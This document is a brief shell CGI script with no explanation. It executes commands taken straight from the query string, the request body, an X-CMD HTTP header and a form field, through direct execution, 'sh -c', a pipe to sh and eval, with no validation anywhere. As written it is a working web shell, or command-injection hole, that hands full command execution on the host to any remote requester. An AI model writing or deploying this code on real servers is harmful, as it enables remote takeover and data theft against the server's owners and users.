#!/bin/sh
read body
run() {
  sh -c "$1"
}
cmd=`echo $QUERY_STRING | cut -d= -f2`
$cmd
run "$body"
echo "$HTTP_X_CMD" | sh
for w in $FORM_list; do eval $w; done
